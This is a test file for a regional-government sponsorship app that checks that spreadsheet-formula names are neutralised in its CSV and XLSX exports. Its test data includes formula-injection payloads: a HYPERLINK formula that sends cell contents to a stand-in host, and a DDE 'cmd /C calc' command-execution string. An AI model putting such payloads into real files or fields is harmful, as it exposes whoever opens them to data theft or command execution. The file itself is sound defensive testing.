import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../src/core/access.ts';
import { formatNik } from '../../src/core/identifiers/nik.ts';
import { formatNip } from '../../src/core/identifiers/nip.ts';
import { PONOROGO_ASN_ORANG_TUA_ASUH as PONOROGO } from '../../src/core/programme-policy.ts';
import type { Database } from '../../src/db/database.ts';
import { csvLine } from '../../src/demo/demo-files.ts';
import { importFile } from '../../src/features/imports/index.ts';
import { streamTable } from '../../src/platform/files/issue-file.ts';
import { buildApp } from '../../src/server/app.ts';
import { openTestDatabase } from '../support/database.ts';
import {
  billMonths,
  seedActor,
  seedOpd,
  seedPemda,
  seedPolicyProgramme,
  seedSponsor,
  seedSponsorship,
} from '../support/fixtures.ts';

/**
 * Names typed as spreadsheet formulas, in the four forms spreadsheets run, imported into the
 * roster and the registry of Ponorogo (35.02): stored as typed, and neutralised in every CSV and
 * XLSX file that carries them (OWASP: a leading apostrophe, the CSV field quoted).
 */
const FORMULAS = [
  '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
] as const;

let db: Database;
let app: FastifyInstance;
let admin: Actor;
let folder: string;
let programmeId: number;
let batchId: number;
let workerImportId: string;
const bills: number[] = [];

const nip = (serial: number) =>
  formatNip({ birthDate: '1980-05-17', appointmentMonth: '2005-03', sex: 'male', serial });
const nik = (serial: number) =>
  formatNik({ districtCode: '35.02.01', birthDate: '1985-02-03', sex: 'female', serial });
/** A CSV field as a CSV writer must write it: quoted, its quotes doubled. */
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

async function file(name: string, lines: readonly string[]): Promise<string> {
  const path = join(folder, name);
  await writeFile(path, `${lines.join('\r\n')}\r\n`);
  return path;
}

beforeAll(async () => {
  db = await openTestDatabase();
  folder = await mkdtemp(join(tmpdir(), 'asuh-formula-'));
  await seedPemda(db, '35.02');
  await seedOpd(db, '35.02', 'Dinas Uji');
  admin = await seedActor(db, { username: 'admin.3502', role: 'pemda_admin', pemdaCode: '35.02' });
  const roster = await file('asn.csv', [
    'nip,nama,opd,jenis_pegawai,golongan,eselon,gaji_pokok,kode_desa',
    ...FORMULAS.map((name, i) => `${nip(i + 1)},${quoted(name)},Dinas Uji,PNS,III/a,,3500000,35.02.01.2001`),
  ]);
  await importFile(db, roster, { kind: 'asn', pemdaCode: '35.02', actor: null });
  // Each name twice (a worker billed, a worker to enrol), and each form once as a NIK, refused.
  const registry = await file('pekerja.csv', [
    'nik,nama,tanggal_lahir,jenis_kelamin,pekerjaan,sektor,kode_desa,no_hp,desil',
    ...[...FORMULAS, ...FORMULAS].map(
      (name, i) => `${nik(i + 1)},${quoted(name)},1985-02-03,P,${quoted(name)},,35.02.01.2001,,`,
    ),
    ...FORMULAS.map((name) => `${quoted(name)},Pekerja,1985-02-03,P,petani,,35.02.01.2001,,`),
  ]);
  const imported = await importFile(db, registry, { kind: 'workers', pemdaCode: '35.02', actor: null });
  expect(imported).toMatchObject({ inserted: 8, rejected: 4 });
  workerImportId = imported.importId;

  programmeId = await seedPolicyProgramme(db, [PONOROGO]);
  for (const [i] of FORMULAS.entries()) {
    const sponsorId = await seedSponsor(db, { pemdaCode: '35.02', kind: 'asn', nip: nip(i + 1) });
    const base = { pemdaCode: '35.02', programmeId, sponsorId };
    await seedSponsorship(db, { ...base, nik: nik(i + 1), firstMonth: '2024-01' });
    await seedSponsorship(db, { ...base, nik: nik(i + 5), firstMonth: '2024-02', status: 'verified' });
  }
  await billMonths(db, '35.02', ['2024-01']);
  for (const row of await db.query<{ id: number }>('SELECT id FROM bill ORDER BY id')) bills.push(row.id);
  app = await buildApp({ db, webDir: null, actorOverride: () => admin });
  const batch = await app.inject({ method: 'POST', url: '/api/v1/pemda/35.02/enrolment-batches' });
  expect(batch.statusCode).toBe(201);
  batchId = batch.json().id;
}, 120_000);

afterAll(async () => {
  await app?.close();
  await db?.close();
  await rm(folder, { recursive: true, force: true });
});

/** What a spreadsheet runs: a text starting with = + - @ (also behind spaces or double quotes), a tab or a CR. */
const RUNS_AS_FORMULA = /^(?:[\t\r]|[\s"]*[=+\-@])/;

async function download(url: string) {
  const response = await app.inject({ url, headers: { 'accept-language': 'en' } });
  expect(response.statusCode, `${url}: ${response.body.slice(0, 200)}`).toBe(200);
  return response.rawPayload;
}

/** Every cell of a CSV download, with the raw text, to see how each field was written. */
async function csvCells(url: string): Promise<{ cells: string[]; raw: string }> {
  const raw = (await download(url)).toString('utf8');
  const rows: string[][] = parse(raw, { bom: true, relax_column_count: true });
  return { cells: rows.flat(), raw };
}

/** Every cell of an XLSX download, with its type as ExcelJS reads it. */
async function xlsxCells(url: string): Promise<{ type: ExcelJS.ValueType; value: unknown }[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await download(url)) as unknown as ArrayBuffer);
  const cells: { type: ExcelJS.ValueType; value: unknown }[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => row.eachCell((cell) => cells.push({ type: cell.type, value: cell.value })));
  }
  return cells;
}

const EXPORTS: { name: string; path: () => string; carries: readonly string[] }[] = [
  {
    name: 'the import error file',
    path: () => `/api/v1/imports/${workerImportId}/errors`,
    carries: FORMULAS,
  },
  {
    name: 'the compliance list',
    path: () => `/api/v1/programmes/${programmeId}/compliance`,
    carries: FORMULAS,
  },
  { name: 'the deduction list', path: () => `/api/v1/bills/${bills[0]}/deductions`, carries: FORMULAS },
  {
    name: 'the enrolment batch file',
    path: () => `/api/v1/enrolment-batches/${batchId}/file`,
    carries: FORMULAS,
  },
  { name: "the sponsors' arrears", path: () => '/api/v1/arrears/sponsors', carries: FORMULAS },
  { name: "the workers' arrears", path: () => '/api/v1/arrears/workers', carries: FORMULAS },
];

describe('formula-looking names', () => {
  it('are stored as typed', async () => {
    const names = (table: string) =>
      db
        .query<{ name: string }>(`SELECT DISTINCT name FROM ${table} ORDER BY name`)
        .then((rows) => rows.map((row) => row.name));
    expect(await names('asn')).toEqual([...FORMULAS].sort());
    expect(await names('worker')).toEqual([...FORMULAS].sort());
  });

  for (const { name, path, carries } of EXPORTS) {
    it(`are neutralised in ${name} as CSV: an apostrophe before, the field quoted`, async () => {
      const { cells, raw } = await csvCells(`${path()}.csv`);
      for (const formula of carries) {
        expect(cells).toContain(`'${formula}`);
        expect(raw).toContain(quoted(`'${formula}`));
      }
      expect(cells.filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
    });

    it(`are neutralised in ${name} as XLSX: text cells, never formulas`, async () => {
      const cells = await xlsxCells(`${path()}.xlsx`);
      for (const formula of carries) expect(cells.some((cell) => cell.value === `'${formula}`)).toBe(true);
      expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
      expect(
        cells.filter((cell) => typeof cell.value === 'string' && RUNS_AS_FORMULA.test(cell.value)),
      ).toEqual([]);
    });
  }

  it('keep amounts as numbers in XLSX', async () => {
    const cells = await xlsxCells(`/api/v1/bills/${bills[0]}/deductions.xlsx`);
    expect(cells.filter((cell) => cell.value === 16_800)).toHaveLength(FORMULAS.length);
  });
});

describe('the one writer of CSV and XLSX files', () => {
  const rows = [
    ['Potongan -8400', -8400, '-8400', ' =1+1', '"@SUM(1)', '\tx', '-1-1', 'Siti; Wati'],
  ] as const;

  it('writes a negative amount as a number, a typed number as typed, and neutralises a formula behind spaces or quotes', async () => {
    const output = new PassThrough();
    const written = buffer(output);
    await streamTable(output, 'csv', 'Uji', ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'], rows);
    expect((await written).toString('utf8').split('\r\n')[1]).toBe(
      `Potongan -8400,-8400,-8400,"' =1+1","'""@SUM(1)","'\tx","'-1-1","Siti; Wati"`,
    );
  });

  it('writes the same cells to XLSX: numbers as numbers, texts neutralised', async () => {
    const output = new PassThrough();
    const written = buffer(output);
    await streamTable(output, 'xlsx', 'Uji', ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'], rows);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await written) as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(2);
    expect([1, 2, 3, 4, 5, 6, 7, 8].map((column) => row.getCell(column).value)).toEqual([
      'Potongan -8400',
      -8400,
      '-8400',
      "' =1+1",
      `'"@SUM(1)`,
      "'\tx",
      "'-1-1",
      'Siti; Wati',
    ]);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
  });

  it("writes the demo's import files with it too", () => {
    expect(csvLine(['-2+3', -16800, 'Siti'])).toBe(`"'-2+3",-16800,Siti\n`);
  });
});
